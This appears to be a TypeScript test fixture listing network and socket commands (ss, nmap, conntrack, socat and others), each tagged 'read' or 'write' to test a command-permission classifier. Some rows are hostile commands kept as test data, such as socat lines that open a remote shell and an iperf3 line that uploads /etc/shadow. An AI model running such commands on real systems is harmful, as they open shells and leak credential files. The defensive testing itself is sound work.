/** Sockets, and tools that connect to hosts. Format of a row: `test/tools/table.ts`. */
export const sockets = `
read | ss -tlnp
read | ss -s
read | ss -tn state established
read | ss -E
read | ss --tcp --listening --numeric
write | ss -K dst 10.0.0.1
write | ss --kill dst 10.0.0.1
write | ss -tK dst 10.0.0.1
write: ss -D | ss -D /host/x
write: ss -D | ss --diag=/host/x
read: ss -F | ss -F /host/x
read: ss -N | ss -N other -t
write: ss --frobnicate | ss --frobnicate
read | netstat -tlnp
read | netstat -rn
read | netstat -s
read | netstat -i
read | netstat -c
write | netstat --frobnicate
read | lsof -nP -i :443
read | lsof -p 1
read | lsof -nP -iTCP -sTCP:LISTEN
read | lsof +L1
read: lsof -r | lsof -r 2
write: lsof -D | lsof -D b
write | lsof +D /host
write: lsof --frobnicate | lsof --frobnicate
read | ps aux
read | ps -eo pid,args
read | ps -ef --forest
read | top
read | top -b -n 1 -o %MEM
write | top -A
write | top --frobnicate
read | conntrack -L
read | conntrack -L -p tcp --dport 443
read | conntrack -C
read | conntrack -S
read | conntrack -E
read | conntrack -E -e NEW
read | conntrack -L -o extended
read | conntrack --dump --family ipv6
read | conntrack -G --orig-src 1.2.3.4 --orig-dst 5.6.7.8 -p tcp --sport 1 --dport 2
write | conntrack -D
write | conntrack -D -s 10.0.0.1
write | conntrack --delete
write | conntrack -F
write | conntrack --flush
write | conntrack -U -p tcp
write | conntrack -I -p tcp
write | conntrack -A -p tcp
write | conntrack -L -z
write | conntrack -Lz
write | conntrack -L -D
write | conntrack
write: conntrack --frobnicate | conntrack --frobnicate
write: conntrack --load-file | conntrack -R /host/x
write: conntrack --load-file | conntrack --load-file /host/x
read | traceroute 10.0.0.1
read | traceroute -n -I 10.0.0.1
read | traceroute -T -p 443 10.0.0.1
read | traceroute -m 5 -q 1 10.0.0.1
write | traceroute --frobnicate 10.0.0.1
read | mtr 10.0.0.1
read | mtr -rwc 10 10.0.0.1
read | mtr -T -P 443 10.0.0.1
read: mtr -F | mtr -F /host/x
write | mtr --frobnicate 10.0.0.1
read | nmap -Pn -p 80,443 10.0.0.1
read | nmap -p80 10.0.0.1
read | nmap -sT 10.0.0.1
read | nmap -sS 10.0.0.1
read | nmap -sSV 10.0.0.1
read | nmap -sn 10.0.0.1
read | nmap -PS80 10.0.0.1
read | nmap -T4 10.0.0.1
read | nmap -vv -d2 10.0.0.1
read | nmap --top-ports 10 10.0.0.1
read: nmap --sC | nmap -sC 10.0.0.1
read: nmap --sC | nmap -sSC 10.0.0.1
read: nmap -A | nmap -A 10.0.0.1
read: nmap --script | nmap --script=vuln 10.0.0.1
read: nmap --script | nmap --script vuln 10.0.0.1
read: nmap --script | nmap -script vuln 10.0.0.1
read: nmap --iL | nmap -iL /host/x
read: nmap --iL | nmap -iL/host/x
write: nmap --oN | nmap -oN /host/x 10.0.0.1
write: nmap --oN | nmap -oN/host/x 10.0.0.1
write: nmap --oX | nmap -oX /host/x 10.0.0.1
write: nmap --oA | nmap -oA /host/x 10.0.0.1
read: nmap -D | nmap -D 10.0.0.5 10.0.0.1
read: nmap --sI | nmap -sI 10.0.0.5 10.0.0.1
read: nmap --iR | nmap -iR 100
read: nmap --datadir | nmap --datadir /host/x 10.0.0.1
read: nmap RANGE | nmap 10.0.0.0/24
read: nmap RANGE | nmap 10.0.0.1-20
read: nmap RANGE | nmap 10.0.0.1 10.0.0.2
read: nmap RANGE | nmap '10.0.0.*'
write: nmap --frobnicate | nmap --frobnicate 10.0.0.1
read | iperf3 -c 10.0.0.1
read | iperf3 -c 10.0.0.1 -u -b 10M -t 5
read: iperf3 -s | iperf3 -s
read: iperf3 -s, iperf3 -D | iperf3 -s -D
write: iperf3 --logfile | iperf3 -c x --logfile /host/x
write: iperf3 -I | iperf3 -c x -I /host/x
read: iperf3 -F, upload | iperf3 -c x -F /host/etc/shadow
write: iperf3 --frobnicate | iperf3 --frobnicate
read | socat - TCP:10.0.0.1:80
read | socat -u TCP4:10.0.0.1:22,connect-timeout=3 STDOUT
read | socat - UDP:10.0.0.1:53
read | socat - OPENSSL:10.0.0.1:443,verify=0
write: socat EXEC | socat - EXEC:sh
write: socat EXEC, upload | socat TCP:10.0.0.1:1 exec:'sh'
write: socat SYSTEM | socat - SYSTEM:id
write: socat OPEN | socat - OPEN:/host/x,creat
write: socat CREATE | socat - CREATE:/host/x
write: socat FILE | socat - FILE:/host/etc/shadow
write: socat GOPEN | socat - GOPEN:/host/x
write: socat UNIX-CONNECT | socat - UNIX-CONNECT:/host/run/x.sock
write: socat TCP-LISTEN | socat TCP-LISTEN:80,fork -
write: socat TUN | socat TUN:10.0.0.1/24 -
write: socat TCP | socat - TCP:10.0.0.1:80,setsockopt=1:2:3
write: socat ADDRESS | socat /host/x -
write: socat TCP | socat - 'TCP:10.0.0.1:80!!EXEC:sh'
`
